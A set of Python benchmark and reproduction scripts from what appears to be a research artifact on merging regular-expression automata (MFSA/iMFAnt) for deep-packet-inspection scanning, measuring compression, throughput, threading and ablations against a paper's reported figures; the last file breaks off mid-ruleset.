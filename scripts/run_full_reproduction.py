#!/usr/bin/env python3
"""One-shot reproduction driver (the artifact's scripts/ folder in one file).

Runs every experiment at a chosen scale, prints the reproduced tables,
exports the raw CSV series, and writes a summary with the headline
paper-vs-measured comparisons.  The benchmark defaults (1/8 scale, 2 KiB
streams) finish in well under a minute; ``--scale 1 --stream-size
1048576`` is the paper-scale configuration (expect hours on the merging
and execution sweeps — the paper's own artifact budget is 15 h).

Usage:
    python scripts/run_full_reproduction.py [--scale 8] [--stream-size 2048]
                                            [--out results/]
"""

from __future__ import annotations

import argparse
import sys
import time
from pathlib import Path

from repro.cli import _REPORTS  # the per-figure printers
from repro.reporting.experiments import (
    ExperimentConfig,
    experiment_compression,
    experiment_scaling,
    experiment_throughput,
    scaling_summary,
)
from repro.reporting.export import export_all
from repro.reporting.tables import geometric_mean


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--scale", type=int, default=8)
    parser.add_argument("--stream-size", type=int, default=2048)
    parser.add_argument("--out", type=Path, default=Path("results"))
    args = parser.parse_args(argv)

    config = ExperimentConfig(scale=args.scale, stream_size=args.stream_size)
    started = time.perf_counter()

    for name in ("fig1", "table1", "fig7", "fig8", "fig9", "fig10", "table2"):
        print(f"\n{'=' * 72}")
        _REPORTS[name](config)

    written = export_all(config, args.out)
    elapsed = time.perf_counter() - started

    # Headline summary (paper values from §VI / EXPERIMENTS.md).
    compression = experiment_compression(config)
    state_avg = sum(per_m[0][0] for per_m in compression.values()) / len(compression)
    trans_avg = sum(per_m[0][1] for per_m in compression.values()) / len(compression)
    throughput = experiment_throughput(config)
    best_geomean = geometric_mean(
        [max(r["improvement"] for r in per_m.values()) for per_m in throughput.values()]
    )
    scaling = experiment_scaling(config)
    speedup_geomean = geometric_mean(
        [scaling_summary(per_m)["speedup"] for per_m in scaling.values()]
    )

    threads_max = max(
        scaling_summary(per_m)["mfsa_threads_to_match_single"] for per_m in scaling.values()
    )

    from repro.reporting.compare import compare_headlines

    report = compare_headlines({
        "state_compression": state_avg,
        "transition_compression": trans_avg,
        "best_throughput_geomean": best_geomean,
        "multithread_speedup_geomean": speedup_geomean,
        "threads_to_match_max": threads_max,
    })
    print(f"\n{'=' * 72}")
    print("HEADLINE SUMMARY (reproduced vs paper, with acceptance bands)")
    for row in report:
        print("  " + row.render())
    print(f"\nraw series: {len(written)} files in {args.out}/   ({elapsed:.1f}s total)")
    return 0 if all(row.ok for row in report) else 1


if __name__ == "__main__":
    sys.exit(main())
