"""Dense compiled-DFA tier benchmark: promoted dense vs warm lazy.

Measures per-builtin-ruleset warm scan throughput of the dense tier
(``repro.engine.dense``: byte-class-compressed transition tables, bulk
numpy stepping, literal prefilter) against the lazy config-cache backend
it promotes from, on two stream profiles:

* ``demo``  — the 30% literal-density stream ``repro obs`` demos with:
  heavy match activity, the prefilter rarely skips, the win is pure
  table stepping vs per-byte dict interpretation;
* ``sparse`` — ~0.2% literal density: long noise runs between matches,
  the regime DPI-style scanning lives in and where the prefilter's
  ``bytes.find`` skip-ahead dominates.

Correctness is asserted inline: the promoted dense engine must produce
byte-identical match sets to the python oracle on every ruleset and
stream, including under the ablations (stride=2, prefilter off).

Two entry points:

* ``PYTHONPATH=src python benchmarks/bench_dense.py`` — full sweep,
  writes ``BENCH_dense.json`` and prints a table; asserts the ISSUE
  acceptance floor (>=10x over warm lazy on >=2 builtin rulesets);
* ``... bench_dense.py --smoke`` — small-stream subset for
  ``make dense-smoke`` / CI (correctness + a modest speedup floor);
* ``pytest benchmarks/bench_dense.py --benchmark-only`` — the
  pytest-benchmark spelling for one ruleset per backend.

Environment: ``REPRO_BENCH_DENSE_STREAM`` overrides the stream size
(default 262144 bytes), ``REPRO_BENCH_DENSE_REPEATS`` the repeats.
"""

from __future__ import annotations

import json
import os
import random
import sys
import time
from pathlib import Path

import pytest

from repro.cli import _demo_stream
from repro.datasets import list_builtin, load_builtin
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset

STREAM_SIZE = int(os.environ.get("REPRO_BENCH_DENSE_STREAM", str(1 << 18)))
REPEATS = int(os.environ.get("REPRO_BENCH_DENSE_REPEATS", "3"))
SPARSE_DENSITY = 0.002


def _sparse_stream(patterns: list[str], size: int, seed: int = 7,
                   density: float = SPARSE_DENSITY) -> bytes:
    """Long noise runs with literal material at ~``density`` of bytes.

    The noise alphabet is chosen *disjoint* from the ruleset's own
    bytes — the binary/non-signature traffic a DPI scanner spends its
    life in, and the regime the literal prefilter exists for.  (The
    demo stream covers the opposite, signature-saturated case.)
    """
    rng = random.Random(seed)
    literals = []
    for pattern in patterns:
        core = "".join(ch for ch in pattern if ch.isalnum() or ch in " _-/.:")
        if core:
            literals.append(core)
    used = {ch for lit in literals for ch in lit}
    noise = "".join(ch for ch in "~!@#$%^&*()+=|;,?\t" if ch not in used) or "\x01"
    chunks: list[str] = []
    produced = 0
    lit_bytes = max(1, sum(len(lit) for lit in literals) // max(1, len(literals)))
    gap = max(1, int(lit_bytes / max(density, 1e-6)))
    while produced < size:
        run = rng.randint(gap // 2, gap + gap // 2)
        chunks.append("".join(rng.choice(noise) for _ in range(run)))
        produced += run
        if literals:
            piece = rng.choice(literals)
            chunks.append(piece)
            produced += len(piece)
    return "".join(chunks).encode("latin-1")[:size]


def _best_wall_seconds(engine: IMfantEngine, stream: bytes,
                       repeats: int = REPEATS) -> float:
    best = float("inf")
    for _ in range(repeats):
        started = time.perf_counter()
        engine.run(stream, collect_stats=False)
        best = min(best, time.perf_counter() - started)
    return best


def _promoted(mfsa, stream: bytes, **kwargs) -> IMfantEngine:
    engine = IMfantEngine(mfsa, backend="dense", **kwargs)
    engine.run(stream, collect_stats=False)  # warm the lazy ramp
    assert engine.promote_dense(force=True)
    return engine


def bench_ruleset(name: str, stream_size: int = STREAM_SIZE,
                  repeats: int = REPEATS, ablations: bool = True) -> dict:
    """One ruleset's dense-vs-lazy comparison on both stream profiles;
    raises if any dense configuration disagrees with the oracle."""
    patterns = list(load_builtin(name).patterns)
    compiled = compile_ruleset(patterns,
                               CompileOptions(merging_factor=0, emit_anml=False))
    assert len(compiled.mfsas) == 1  # M = all
    mfsa = compiled.mfsas[0]

    row = {"ruleset": name, "rules": len(patterns),
           "mfsa_states": mfsa.num_states, "streams": {}}
    for profile, stream in (
        ("demo", _demo_stream(patterns, stream_size)),
        ("sparse", _sparse_stream(patterns, stream_size)),
    ):
        oracle = IMfantEngine(mfsa, backend="python").run(
            stream, collect_stats=False).matches

        lazy = IMfantEngine(mfsa, backend="lazy")
        assert lazy.run(stream, collect_stats=False).matches == oracle, (
            name, profile, "lazy")
        lazy_s = _best_wall_seconds(lazy, stream, repeats)

        dense = _promoted(mfsa, stream)
        assert dense.run(stream, collect_stats=False).matches == oracle, (
            name, profile, "dense")
        dense_s = _best_wall_seconds(dense, stream, repeats)

        entry = {
            "stream_bytes": len(stream),
            "matches": len(oracle),
            "dense_configs": dense.dense_tier.num_configs,
            "dense_table_bytes": dense.dense_tier.nbytes,
            "seconds": {"lazy": lazy_s, "dense": dense_s},
            "throughput_mb_s": {
                "lazy": len(stream) / lazy_s / 1e6,
                "dense": len(stream) / dense_s / 1e6,
            },
            "dense_speedup_vs_lazy": lazy_s / dense_s,
        }
        if ablations and profile == "sparse":
            for label, kwargs in (
                ("stride2", {"dense_stride": 2}),
                ("no_prefilter", {"dense_prefilter": False}),
            ):
                variant = _promoted(mfsa, stream, **kwargs)
                assert variant.run(stream, collect_stats=False).matches == oracle, (
                    name, profile, label)
                seconds = _best_wall_seconds(variant, stream, repeats)
                entry.setdefault("ablations", {})[label] = {
                    "seconds": seconds,
                    "throughput_mb_s": len(stream) / seconds / 1e6,
                }
        row["streams"][profile] = entry
    return row


def run_sweep(stream_size: int = STREAM_SIZE, repeats: int = REPEATS,
              rulesets: list[str] | None = None, ablations: bool = True) -> dict:
    rows = [bench_ruleset(name, stream_size, repeats, ablations)
            for name in (rulesets or list_builtin())]
    sparse_speedups = {r["ruleset"]: r["streams"]["sparse"]["dense_speedup_vs_lazy"]
                       for r in rows}
    return {
        "benchmark": "bench_dense",
        "stream_bytes": stream_size,
        "repeats": repeats,
        "sparse_density": SPARSE_DENSITY,
        "note": "dense measured warm with the tier force-promoted; lazy "
                "measured warm (cache primed by the correctness pass); all "
                "match sets asserted byte-identical to the python oracle, "
                "ablations included",
        "results": rows,
        "summary": {
            "sparse_dense_speedup_vs_lazy": sparse_speedups,
            "rulesets_at_10x_or_better": sorted(
                name for name, s in sparse_speedups.items() if s >= 10.0),
            "all_match_sets_identical": True,  # asserted per ruleset/stream
        },
    }


def main(argv: list[str] | None = None) -> int:
    argv = list(argv or [])
    if "--smoke" in argv:
        report = run_sweep(stream_size=1 << 15, repeats=2,
                           rulesets=["tokens_exact", "dotstar_rules"],
                           ablations=False)
        best = max(r["streams"]["sparse"]["dense_speedup_vs_lazy"]
                   for r in report["results"])
        assert best >= 2.0, (
            f"dense-smoke: best sparse-stream dense speedup {best:.2f}x < 2x")
        print(f"dense-smoke: matches identical on all rulesets, "
              f"best sparse speedup {best:.1f}x over warm lazy")
        return 0

    out = Path(argv[0]) if argv else Path(__file__).resolve().parent.parent / "BENCH_dense.json"
    report = run_sweep()
    out.write_text(json.dumps(report, indent=2) + "\n")
    header = (f"{'ruleset':18s} {'stream':>7s} {'lazy':>10s} {'dense':>10s} "
              f"{'speedup':>8s} {'configs':>8s}")
    print(header)
    for row in report["results"]:
        for profile, entry in row["streams"].items():
            mb = entry["throughput_mb_s"]
            print(f"{row['ruleset']:18s} {profile:>7s} {mb['lazy']:8.2f}MB "
                  f"{mb['dense']:8.2f}MB {entry['dense_speedup_vs_lazy']:7.2f}x "
                  f"{entry['dense_configs']:8d}")
    at_10x = report["summary"]["rulesets_at_10x_or_better"]
    print(f"\n>=10x over warm lazy (sparse stream): {', '.join(at_10x) or 'none'}")
    assert len(at_10x) >= 2, (
        f"acceptance: need >=10x on >=2 rulesets, got {at_10x}")
    print(f"wrote {out}")
    return 0


# -- pytest-benchmark spelling ----------------------------------------------


@pytest.mark.parametrize("backend", ["lazy", "dense"])
def test_dense_tier_throughput(benchmark, backend):
    patterns = list(load_builtin("tokens_exact").patterns)
    compiled = compile_ruleset(patterns,
                               CompileOptions(merging_factor=0, emit_anml=False))
    stream = _sparse_stream(patterns, STREAM_SIZE)
    if backend == "dense":
        engine = _promoted(compiled.mfsas[0], stream)
    else:
        engine = IMfantEngine(compiled.mfsas[0], backend=backend)
        engine.run(stream, collect_stats=False)  # warm
    result = benchmark(lambda: engine.run(stream, collect_stats=False))
    reference = IMfantEngine(compiled.mfsas[0], backend="python").run(stream).matches
    assert result.matches == reference


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
