"""Structural sharing profiles of merged suites (Fig. 2 writ large).

Beyond the compression percentage, this bench shows *how* the MFSAs
share: the belonging-size histogram (how many transitions serve 1, 2,
…, k rules) and each suite's widest-shared transition.  The similarity-
heavy suite (PRO) should show the widest sharing; the exact-match suite
(TCP) the thinnest.
"""

from repro.mfsa.statistics import sharing_profile
from repro.reporting.experiments import dataset_bundle
from repro.reporting.tables import format_table


def _profiles(config):
    out = {}
    for abbr in config.datasets:
        bundle = dataset_bundle(abbr, config)
        mfsa = bundle.compiled(0).mfsas[0]
        out[abbr] = (mfsa, sharing_profile(mfsa))
    return out


def test_sharing_profiles(benchmark, config):
    results = benchmark.pedantic(lambda: _profiles(config), rounds=1, iterations=1)

    rows = []
    for abbr, (mfsa, profile) in results.items():
        shared_pct = 100.0 * profile.shared_transitions / max(1, mfsa.num_transitions)
        rows.append((
            abbr,
            mfsa.num_transitions,
            profile.exclusive_transitions,
            profile.shared_transitions,
            f"{shared_pct:.1f}%",
            profile.max_sharing,
        ))
    print()
    print(format_table(
        ("Dataset", "transitions", "exclusive", "shared", "shared %", "widest"),
        rows,
        title="Sharing profile of the M=all MFSAs",
    ))

    for abbr, (mfsa, profile) in results.items():
        # every suite shares something, and the histogram partitions arcs
        assert profile.shared_transitions > 0, abbr
        assert sum(profile.histogram.values()) == mfsa.num_transitions, abbr
    # the most self-similar suite shares the widest (Fig. 1 ordering)
    widest = {abbr: profile.max_sharing for abbr, (_, profile) in results.items()}
    assert widest["PRO"] >= widest["TCP"]
