"""Table II — active-FSA statistics during MFSA traversal (M = all).

Paper: the per-symbol total of active FSAs averages 4.55 (TCP) to 3802
(DS9), with DS9/PEN/PRO far above TCP/RG1 — the load that makes DS9 and
PRO prefer intermediate merging factors in Fig. 9.  The bench times the
instrumented traversal and prints the reproduced statistics.
"""

from repro.reporting.experiments import experiment_active_sets
from repro.reporting.tables import format_table


def test_table2_active_sets(benchmark, config):
    data = benchmark.pedantic(
        lambda: experiment_active_sets(config), rounds=1, iterations=1
    )

    print()
    print(format_table(
        ("Dataset", "Avg active pairs/symbol", "Max per-state activation"),
        [(abbr, f"{row['avg_active']:.2f}", int(row["max_active"])) for abbr, row in data.items()],
        title="Table II (reproduced) — M=all",
    ))

    # Shape: the dot-star-heavy suite keeps far more rules active than the
    # exact-match suite (paper: DS9 3802 vs TCP 4.55).
    assert data["DS9"]["avg_active"] > 3 * data["TCP"]["avg_active"]
    assert all(row["avg_active"] >= 0 for row in data.values())
    assert all(row["max_active"] >= 1 for row in data.values())
