"""Ablation — Thompson(+ε-removal) vs Glushkov construction.

Both constructions feed the same optimisation and merging pipeline; this
bench compares the automaton sizes they produce, the resulting MFSA
compression, and verifies end-to-end match equality on the suite stream.
Glushkov's homogeneous output also needs no ε-removal — its ME-single
stage does strictly less work.
"""

from repro.automata.optimize import OptimizeOptions
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset
from repro.reporting.experiments import dataset_bundle
from repro.reporting.tables import format_table

CONSTRUCTIONS = ("thompson", "glushkov")


def _sweep(bundles):
    out = {}
    for abbr, bundle in bundles.items():
        per_construction = {}
        for construction in CONSTRUCTIONS:
            result = compile_ruleset(
                bundle.ruleset.patterns,
                CompileOptions(
                    merging_factor=0,
                    emit_anml=False,
                    optimize=OptimizeOptions(construction=construction),
                ),
            )
            matches = IMfantEngine(result.mfsas[0]).run(
                bundle.stream, collect_stats=False
            ).matches
            per_construction[construction] = (result, matches)
        out[abbr] = per_construction
    return out


def test_construction_ablation(benchmark, config):
    bundles = {abbr: dataset_bundle(abbr, config) for abbr in ("BRO", "RG1")}
    results = benchmark.pedantic(lambda: _sweep(bundles), rounds=1, iterations=1)

    rows = []
    for abbr, per_construction in results.items():
        thompson, thompson_matches = per_construction["thompson"]
        glushkov, glushkov_matches = per_construction["glushkov"]
        assert thompson_matches == glushkov_matches, abbr
        rows.append((
            abbr,
            thompson.merge_report.input_states, glushkov.merge_report.input_states,
            thompson.total_output_states, glushkov.total_output_states,
            f"{thompson.merge_report.state_compression:.1f}%",
            f"{glushkov.merge_report.state_compression:.1f}%",
        ))

    print()
    print(format_table(
        ("Dataset", "Thompson in-Q", "Glushkov in-Q", "Thompson MFSA Q",
         "Glushkov MFSA Q", "Thompson comp.", "Glushkov comp."),
        rows,
        title="Ablation — construction algorithm (M=all)",
    ))

    # Both routes deliver substantial compression on similar-sized inputs.
    for abbr, t_in, g_in, t_out, g_out, *_ in rows:
        assert 0.5 * t_in < g_in < 2.0 * t_in, abbr
        assert t_out < t_in and g_out < g_in, abbr
