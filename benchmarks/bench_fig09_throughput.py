"""Fig. 9 — single-thread execution time and throughput improvement.

Paper: iMFAnt on MFSAs always beats the single-FSA baseline, with
geomean improvements from 1.47x (M=2) to 5.44x (M=100) and 5.99x at the
per-dataset best M; most suites peak at M=all but DS9/PRO (huge active
sets) peak at intermediate factors.  The bench times the engine sweep
and prints execution work and the improvement series.
"""

from conftest import m_label
from repro.reporting.experiments import experiment_throughput
from repro.reporting.tables import format_table, geometric_mean


def test_fig9_throughput(benchmark, config):
    data = benchmark.pedantic(
        lambda: experiment_throughput(config), rounds=1, iterations=1
    )

    factors = sorted({m for per_m in data.values() for m in per_m}, key=lambda m: (m == 0, m))
    print()
    print(format_table(
        ("Dataset", *(f"M={m_label(m)}" for m in factors)),
        [
            (abbr, *(f"{per_m[m]['improvement']:.2f}x" if m in per_m else "-" for m in factors))
            for abbr, per_m in data.items()
        ],
        title="Fig. 9 (reproduced) — throughput improvement vs M=1",
    ))

    best = {abbr: max(row["improvement"] for row in per_m.values())
            for abbr, per_m in data.items()}
    best_geomean = geometric_mean(list(best.values()))
    print(f"geomean of per-dataset best improvements: {best_geomean:.2f}x (paper: 5.99x)")

    for abbr, per_m in data.items():
        # merging never loses to the baseline
        assert all(row["improvement"] >= 0.95 for row in per_m.values()), abbr
        assert best[abbr] > 1.5, (abbr, best[abbr])
    assert 2.0 <= best_geomean <= 20.0


def test_fig9_wall_clock_direction(benchmark, config):
    """Real wall-clock seconds (not just modelled work) also favour the
    merged configuration."""
    data = benchmark.pedantic(
        lambda: experiment_throughput(config), rounds=1, iterations=1
    )
    for abbr, per_m in data.items():
        wall_base = per_m[1]["wall_seconds"]
        wall_best = min(row["wall_seconds"] for m, row in per_m.items() if m != 1)
        print(f"{abbr}: wall M=1 {wall_base*1e3:.1f} ms -> best merged {wall_best*1e3:.1f} ms")
        assert wall_best < wall_base, abbr
