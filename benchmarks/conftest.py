"""Shared configuration for the per-figure benchmarks.

Every module regenerates one table/figure of the paper (DESIGN.md §4)
and prints its rows (run pytest with ``-s`` to see them inline; the same
tables are available via ``repro-report``).

Scaling: the paper's engine is C++/-O3 on 217–300-RE rulesets with 1 MB
streams; the interpretive Python engines default here to suites scaled
by ``REPRO_BENCH_SCALE`` (default 8 → 27–37 REs) and
``REPRO_BENCH_STREAM`` bytes (default 2048).  Set
``REPRO_BENCH_SCALE=1 REPRO_BENCH_STREAM=1048576`` for a paper-scale run
(hours).  EXPERIMENTS.md records the configuration used for the reported
numbers.
"""

from __future__ import annotations

import os

import pytest

from repro.engine.cost import CostModel
from repro.engine.multithread import MachineModel
from repro.reporting.experiments import ExperimentConfig
from repro.testing import seed_all

BENCH_SCALE = int(os.environ.get("REPRO_BENCH_SCALE", "8"))
BENCH_STREAM = int(os.environ.get("REPRO_BENCH_STREAM", "2048"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "1"))


@pytest.fixture(autouse=True)
def _seeded_rng():
    """Benchmarks draw the same streams/rulesets regardless of run order."""
    seed_all(BENCH_SEED)
    yield

BENCH_CONFIG = ExperimentConfig(
    scale=BENCH_SCALE,
    stream_size=BENCH_STREAM,
    merging_factors=(1, 2, 5, 10, 20, 50, 100, 0),
    threads=(1, 2, 4, 8, 16, 32, 64, 128),
    cost_model=CostModel(),
    machine=MachineModel(physical_cores=4, hardware_threads=8),
)


@pytest.fixture(scope="session")
def config() -> ExperimentConfig:
    return BENCH_CONFIG


def m_label(m: int) -> str:
    return "all" if m == 0 else str(m)
