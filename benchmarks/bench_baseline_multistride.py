"""Baseline — multi-stride DFAs (paper §VII, [11, 28, 40]).

Multi-striding halves the state traversals per byte but pays for "all
the k-characters combinations of adjacent transitions".  This bench
builds the 2-stride form of each suite's (minimised) streaming DFA and
measures both sides of that trade-off, cross-checking matches against
the 1-stride engine and iMFAnt.
"""

from repro.dfa import DfaEngine, build_stride2, determinize, minimize
from repro.dfa.multistride import StrideDfaEngine
from repro.engine.imfant import IMfantEngine
from repro.reporting.experiments import ExperimentConfig, dataset_bundle
from repro.reporting.tables import format_table

SMALL = ExperimentConfig(scale=20, stream_size=2048, datasets=("BRO", "TCP"))


def _build(bundle):
    compiled = bundle.compiled(0)
    dfa = minimize(determinize(list(enumerate(compiled.fsas)), max_states=60_000))
    stride = build_stride2(dfa)
    return compiled, dfa, stride


def test_multistride_tradeoff(benchmark):
    bundles = {abbr: dataset_bundle(abbr, SMALL) for abbr in SMALL.datasets}
    results = benchmark.pedantic(
        lambda: {abbr: _build(b) for abbr, b in bundles.items()}, rounds=1, iterations=1
    )

    rows = []
    for abbr, (compiled, dfa, stride) in results.items():
        stream = bundles[abbr].stream
        one = DfaEngine(dfa).run(stream)
        two = StrideDfaEngine(stride).run(stream)
        assert two.matches == one.matches, abbr
        assert two.matches == IMfantEngine(compiled.mfsas[0]).run(
            stream, collect_stats=False
        ).matches, abbr
        rows.append((
            abbr,
            dfa.num_states, stride.num_classes,
            dfa.num_transitions, stride.table_entries,
            one.stats.transitions_examined, two.stats.transitions_examined,
        ))

    print()
    print(format_table(
        ("Dataset", "DFA Q", "classes", "1-stride entries", "2-stride entries",
         "1-stride steps", "2-stride steps"),
        rows,
        title="Baseline — 2-stride DFA: steps halve, table squares",
    ))

    for abbr, _, classes, one_entries, two_entries, one_steps, two_steps in rows:
        # per-byte traversals halve (±1 for the odd tail)
        assert two_steps <= one_steps // 2 + 1, abbr
        # the pair table is larger than the 1-stride table
        assert two_entries > one_entries, abbr
