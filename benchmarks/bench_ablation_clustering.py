"""Ablation — sequential vs similarity-clustered grouping (future work).

The paper samples M REs sequentially (§VI) and proposes similarity-based
clustering as future work (§VIII).  This bench compiles each suite both
ways at intermediate merging factors and compares the achieved state
compression: clustering groups morphologically similar REs together and
should compress at least as well, with the larger gains on suites whose
similar REs are scattered through the ruleset.
"""

from repro.pipeline.compiler import CompileOptions, compile_ruleset
from repro.reporting.experiments import dataset_bundle
from repro.reporting.tables import format_table

FACTORS = (5, 10)


def _sweep(bundles):
    out = {}
    for abbr, bundle in bundles.items():
        per_factor = {}
        for m in FACTORS:
            sequential = compile_ruleset(
                bundle.ruleset.patterns,
                CompileOptions(merging_factor=m, emit_anml=False),
            )
            clustered = compile_ruleset(
                bundle.ruleset.patterns,
                CompileOptions(merging_factor=m, grouping="clustered", emit_anml=False),
            )
            per_factor[m] = (sequential.merge_report, clustered.merge_report)
        out[abbr] = per_factor
    return out


def test_clustered_grouping(benchmark, config):
    bundles = {abbr: dataset_bundle(abbr, config) for abbr in ("BRO", "PRO", "TCP")}
    results = benchmark.pedantic(lambda: _sweep(bundles), rounds=1, iterations=1)

    rows = []
    wins = 0
    comparisons = 0
    for abbr, per_factor in results.items():
        for m, (sequential, clustered) in per_factor.items():
            rows.append((
                abbr, m,
                f"{sequential.state_compression:.1f}%",
                f"{clustered.state_compression:.1f}%",
            ))
            comparisons += 1
            if clustered.state_compression >= sequential.state_compression - 0.5:
                wins += 1

    print()
    print(format_table(
        ("Dataset", "M", "sequential comp.", "clustered comp."),
        rows,
        title="Ablation — grouping strategy vs state compression",
    ))

    # clustering is at least competitive nearly everywhere
    assert wins >= comparisons - 1, (wins, comparisons)
    # and strictly better somewhere
    assert any(
        clustered.state_compression > sequential.state_compression + 0.5
        for per_factor in results.values()
        for sequential, clustered in per_factor.values()
    )
