"""Table II under adversarial input: worst-case activation pressure.

Table II's active-set statistics depend on the stream.  This bench runs
the M=all MFSAs over the *adversarial* streams (prefix spam —
:func:`repro.datasets.generate_adversarial_stream`) and compares the
per-symbol active pairs against the ordinary streams: the worst case is
what a DPI deployment must provision for (adversaries get to choose the
traffic), and it amplifies exactly the suites Table II flags.
"""

from repro.datasets import generate_adversarial_stream
from repro.engine.imfant import IMfantEngine
from repro.reporting.experiments import dataset_bundle
from repro.reporting.tables import format_table


def _sweep(config):
    out = {}
    for abbr in config.datasets:
        bundle = dataset_bundle(abbr, config)
        mfsa = bundle.compiled(0).mfsas[0]
        engine = IMfantEngine(mfsa)
        normal = engine.run(bundle.stream).stats
        hostile = engine.run(
            generate_adversarial_stream(bundle.ruleset, config.stream_size)
        ).stats
        out[abbr] = (normal, hostile)
    return out


def test_adversarial_active_sets(benchmark, config):
    results = benchmark.pedantic(lambda: _sweep(config), rounds=1, iterations=1)

    rows = []
    for abbr, (normal, hostile) in results.items():
        amplification = (
            hostile.avg_active_pairs / normal.avg_active_pairs
            if normal.avg_active_pairs else float("inf")
        )
        rows.append((
            abbr,
            f"{normal.avg_active_pairs:.2f}",
            f"{hostile.avg_active_pairs:.2f}",
            f"{amplification:.2f}x",
            hostile.max_state_activation,
        ))
    print()
    print(format_table(
        ("Dataset", "normal avg", "adversarial avg", "amplification", "adv. max"),
        rows,
        title="Table II under adversarial streams (M=all)",
    ))

    amplified = sum(
        1 for _, (normal, hostile) in results.items()
        if hostile.avg_active_pairs > normal.avg_active_pairs
    )
    # prefix spam raises the active load on most suites
    assert amplified >= len(results) - 1, amplified
