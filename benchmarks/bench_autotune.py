"""Autotune — the M-selection tool against the Fig. 9/10 conclusions.

Runs the merging-factor auto-tuner on each suite at two thread budgets
and checks it lands on the paper's conclusions: never "no merging", and
heavy merging on a single thread.  With threads available, smaller
factors can win (parallelism across MFSAs) — exactly the Fig. 10
trade-off the tool automates.
"""

from repro.pipeline.autotune import autotune_merging_factor
from repro.reporting.experiments import dataset_bundle
from repro.reporting.tables import format_table

CANDIDATES = (1, 2, 5, 10, 0)


def _sweep(config):
    out = {}
    for abbr in ("BRO", "DS9", "TCP"):
        bundle = dataset_bundle(abbr, config)
        per_threads = {}
        for threads in (1, 8):
            per_threads[threads] = autotune_merging_factor(
                bundle.ruleset.patterns, bundle.stream,
                threads=threads, candidates=CANDIDATES,
                cost_model=config.cost_model, machine=config.machine,
            )
        out[abbr] = per_threads
    return out


def test_autotune_selects_paper_consistent_factors(benchmark, config):
    results = benchmark.pedantic(lambda: _sweep(config), rounds=1, iterations=1)

    rows = []
    for abbr, per_threads in results.items():
        rows.append((
            abbr,
            per_threads[1].best.label,
            f"{per_threads[1].best.latency:.0f}",
            per_threads[8].best.label,
            f"{per_threads[8].best.latency:.0f}",
        ))
    print()
    print(format_table(
        ("Dataset", "best M (T=1)", "latency", "best M (T=8)", "latency"),
        rows,
        title="Autotune — selected merging factor per thread budget",
    ))

    for abbr, per_threads in results.items():
        for threads, report in per_threads.items():
            # never "no merging" (Fig. 9: merging always beats M=1)
            assert report.best.merging_factor != 1, (abbr, threads)
        # single-thread winner merges at least as coarsely as the T=8 one
        single = per_threads[1].best
        multi = per_threads[8].best
        coarseness = lambda c: float("inf") if c.merging_factor == 0 else c.merging_factor
        assert coarseness(single) >= coarseness(multi), abbr
