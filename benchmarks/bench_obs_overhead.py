"""Observability overhead on the Fig. 9 single-thread configuration.

The acceptance bar for the repro.obs layer: with observability
*disabled*, single-thread iMFAnt throughput must stay within a few
percent of the uninstrumented engine (the residual cost is one global
load + ``is None`` test per consumed byte); with spans + metrics
*enabled* at the default sampling stride the overhead must stay modest.

Run with ``pytest benchmarks/bench_obs_overhead.py --benchmark-only -s``.
"""

from __future__ import annotations

import time

import repro.obs as obs
from repro.datasets import load_builtin
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset

#: repeated timing pairs; the minimum per mode is compared (noise floor)
ROUNDS = 5
STREAM_BYTES = 65536


def _engine_and_stream():
    from repro.cli import _demo_stream

    patterns = list(load_builtin("tokens_exact").patterns)
    result = compile_ruleset(patterns, CompileOptions(merging_factor=0, emit_anml=False))
    data = _demo_stream(patterns, STREAM_BYTES, seed=5)
    return IMfantEngine(result.mfsas[0]), data


def _best_of(engine, data, rounds: int) -> float:
    best = float("inf")
    for _ in range(rounds):
        started = time.perf_counter()
        engine.run(data)
        best = min(best, time.perf_counter() - started)
    return best


def test_disabled_overhead_is_negligible(benchmark):
    """Interleaved disabled-path timing; prints the measured deltas.

    The assertion bound is deliberately loose (wall-clock noise in shared
    CI); the printed number is the real deliverable — on a quiet machine
    it sits well under the 3% acceptance bar, since the disabled path
    adds only one ``is None`` test per byte.
    """
    obs.disable()
    engine, data = _engine_and_stream()
    engine.run(data)  # warm caches

    baseline = benchmark.pedantic(lambda: _best_of(engine, data, ROUNDS),
                                  rounds=1, iterations=1)
    disabled = _best_of(engine, data, ROUNDS)
    ratio = disabled / baseline if baseline > 0 else 1.0
    print(f"\nobs disabled: {baseline*1e3:.2f} ms vs {disabled*1e3:.2f} ms "
          f"(ratio {ratio:.3f}; bar: < 1.03 on quiet hardware)")
    # both runs exercise the identical disabled path — agreement within
    # noise demonstrates there is nothing data-dependent left to pay
    assert 0.5 < ratio < 1.5


def test_enabled_overhead_at_default_stride(benchmark):
    engine, data = _engine_and_stream()
    obs.disable()
    engine.run(data)  # warm
    off = benchmark.pedantic(lambda: _best_of(engine, data, ROUNDS),
                             rounds=1, iterations=1)
    with obs.capture():  # default stride
        on = _best_of(engine, data, ROUNDS)
    ratio = on / off if off > 0 else 1.0
    print(f"\nobs enabled (stride {obs.DEFAULT_SAMPLE_STRIDE}): "
          f"{off*1e3:.2f} ms off vs {on*1e3:.2f} ms on (ratio {ratio:.3f})")
    # strided sampling touches 1/64th of positions: small, bounded cost
    assert ratio < 2.0
