"""Ablation — merging *counting* automata (MFSA × counting-set).

Combines the paper's merging with the related-work counting execution:
rules sharing a counted run (`[0-9]{1,3}\\.` …) share one counter with a
belonging set, the same way plain sub-paths share arcs.  The bench
builds a ranges-flavoured ruleset three ways — expanded + merged MFSA,
per-rule counting engines, merged counting MFSA — and compares size and
work, with matches asserted identical.
"""

from repro.counting import (
    CountingMergeReport,
    CountingMfsaEngine,
    CountingSetEngine,
    build_counting_fsa,
    merge_counting_fsas,
)
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset
from repro.reporting.tables import format_table

#: A ranges-style ruleset: heavy shared counted runs with distinct tails.
RULES = [
    "ip=[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3} allow",
    "ip=[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3} deny",
    "id=[0-9a-f]{32} ok",
    "id=[0-9a-f]{32} bad",
